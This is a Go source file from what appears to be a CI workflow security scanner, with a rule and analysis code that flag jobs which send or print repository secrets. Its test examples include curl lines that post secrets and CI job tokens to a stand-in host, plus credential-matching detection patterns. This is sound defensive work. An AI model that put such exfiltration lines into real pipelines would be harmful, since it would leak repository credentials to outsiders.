package static

import (
	"maps"
	"path"
	"slices"
	"strings"

	"github.com/umpire-dev/umpire"
	"github.com/umpire-dev/umpire/internal/anyof"
	"github.com/umpire-dev/umpire/internal/lazy"
	"github.com/umpire-dev/umpire/internal/review/finding"
)

var secretLeaves = &Rule{
	ID: "umpire/workflow/secret-leaves", Severity: finding.Medium, CWE: "CWE-200",
	Title:  "A job sends or prints a secret",
	Text:   "The script sends a secret of the repository to another host, or prints it. The author of the change gets the secret once the job runs. ",
	Remedy: "Give the secret only to the program that needs it, in a header or by its standard input, and use https.",
	Hits: []Example{
		{".github/workflows/x.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: curl -d '${{ secrets.X }}' https://e.example/\n"},
		{"action.yml", "runs:\n  using: composite\n  steps:\n  - shell: bash\n    run: echo ${{ github.token }} | base64\n"},
		{".gitlab-ci.yml", "a:\n  script:\n  - curl -d \"$CI_JOB_TOKEN\" https://e.example/\n"},
	},
	Misses: []Example{
		{".github/workflows/x.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: 'curl -H \"Authorization: Bearer ${{ secrets.X }}\" https://e.example/'\n"},
		{".github/workflows/x.yml", "on: push\njobs:\n  a:\n    steps:\n    - run: echo \"${{ secrets.X }}\" | docker login -u x --password-stdin ghcr.io\n"},
		{".gitlab-ci.yml", "a:\n  script:\n  - echo \"$CI_JOB_NAME\"\n"},
	},
}

var (
	// secretContext matches an expression that reads a secret, in lower case.
	secretContext = lazy.Regexp(`[^.\w-](?:secrets\s*[.\[),}]|github\.token\b)|\(\s*github\s*\)`)
	// allSecrets matches an expression that yields every secret at once.
	allSecrets = lazy.Regexp(`[^.\w-]secrets\s*(?:[),}]|\.\*)`)
	// literalText matches a string of an expression.
	literalText = lazy.Regexp(`'[^']*'`)
	// literalInput matches the delimiter of a here-document in which the shell expands nothing.
	literalInput = lazy.Regexp(`(<<-?\s*)(?:'(\w+)'|"(\w+)"|\\(\w+))`)
	// keyVariable matches a variable that may be named like a credential; umpire's reader decides.
	keyVariable = lazy.Regexp(`(?i)(?:\$\{?|printenv |env[.:\[('"]+)\w*(?:token|secret|passw|key|credential|auth)`)
)

// What stands for a secret in a script that umpire reads.
const (
	aSecret     = "${REPOSITORY_SECRET_TOKEN}"
	everySecret = "$(env)"
	itsAddress  = "secret.invalid" // a secret that is the address of a service, such as a webhook
)

// yieldsSecret reports whether an expression, as expand returns it, has a secret for its value. A
// comparison has not.
func yieldsSecret(e string) bool {
	e = literalText().ReplaceAllString(e, "''")
	compares := anyof.Contains(e, "==", "!=") && !anyof.Contains(e, "&&", "||")
	return !compares && secretContext().MatchString(e)
}

func hasSecret(s string) bool {
	return slices.ContainsFunc(expression().FindAllString(s, -1), yieldsSecret)
}

// leaks reports a script of a job that sends or prints a secret. The expressions in the script and
// in the job's variables are expanded.
func (f *file) leaks(first int, script string, env map[string]variable) {
	if !mentionsSecret(script, env) {
		return
	}
	severity, why := f.leak(script, env)
	if why == "" {
		return
	}
	at, n := 0, first-1
	for l := range strings.Lines(script) {
		if n++; !mentionsSecret(l, env) {
			continue
		}
		if at == 0 {
			at = n
		}
		if _, alone := f.leak(l, env); alone != "" {
			at = n
			break
		}
	}
	f.on(secretLeaves, severity, max(at, first), "the script "+why)
}

// mentionsSecret spares the reading of most scripts.
func mentionsSecret(script string, env map[string]variable) bool {
	if hasSecret(script) || keyVariable().MatchString(script) {
		return true
	}
	for _, v := range env {
		if strings.Contains(script, v.name) && hasSecret(v.value) {
			return true
		}
	}
	return false
}

// leak returns the severity and the reason of the gravest leak of a script. The service writes a
// secret into the script before the shell reads it, even between single quotes. A variable in its
// place is expanded only outside of them, so the script is read with two spellings of it.
func (f *file) leak(script string, env map[string]variable) (finding.Severity, string) {
	plain := spelling{script: script, env: env}
	quoted := spelling{script: literalInput().ReplaceAllString(script, "$1$2$3$4"), env: env, before: `'"`, after: `"'`}
	severity, why := f.leakOf(plain)
	if s, w := f.leakOf(quoted); w != "" && (why == "" || s < severity) {
		return s, w
	}
	return severity, why
}

// spelling is a script with one way to write its secrets.
type spelling struct {
	script        string
	env           map[string]variable
	before, after string // around each secret
}

// with returns the script with a text in place of each secret.
func (p spelling) with(secret string) string {
	var b strings.Builder
	for _, k := range slices.Sorted(maps.Keys(p.env)) {
		if v := p.env[k]; hasSecret(v.value) {
			b.WriteString("export " + v.name + "=\"" + spell(v.value, secret, "", "") + "\"\n")
		}
	}
	b.WriteString(spell(p.script, secret, p.before, p.after))
	return b.String()
}

func spell(s, secret, before, after string) string {
	return expression().ReplaceAllStringFunc(s, func(e string) string {
		switch {
		case !yieldsSecret(e):
			return "$UNKNOWN"
		case allSecrets().MatchString(e) && secret == aSecret:
			return before + everySecret + after
		}
		return before + secret + after
	})
}

func (f *file) leakOf(p spelling) (severity finding.Severity, why string) {
	dir := path.Dir(f.path)
	ops, reasons := f.readCommand(dir, p.with(aSecret))
	severity = finding.Low
	for _, r := range reasons {
		if r.Op < 0 || r.Op >= len(ops) {
			continue
		}
		o := &ops[r.Op]
		sends := o.Kind == umpire.Network && o.Traits&(umpire.CarriesSecret|umpire.Exfiltration) != 0
		prints := o.Kind == umpire.System && o.Traits&umpire.CarriesSecret != 0
		s := finding.Medium
		switch {
		case !sends && !prints:
			continue
		case sends && unknownHost(o):
			if named, _ := f.readCommand(dir, p.with(itsAddress)); !slices.ContainsFunc(named, func(o umpire.Operation) bool { return unknownHost(&o) }) {
				continue
			}
		case sends && (r.Effect == umpire.Deny || o.Traits&umpire.PlainHTTP != 0):
			s = finding.High
		}
		if why == "" || s < severity {
			severity, why = s, r.Text
		}
	}
	return severity, why
}

// unknownHost reports whether an operation contacts a host that only the running script knows.
func unknownHost(o *umpire.Operation) bool {
	words := strings.Fields(o.Resource)
	if o.Kind != umpire.Network || len(words) == 0 {
		return false
	}
	host := strings.Trim(words[len(words)-1], `'"`)
	if end := strings.IndexAny(host, `:/'"`); end >= 0 {
		host = host[:end]
	}
	return host == umpire.Hole
}
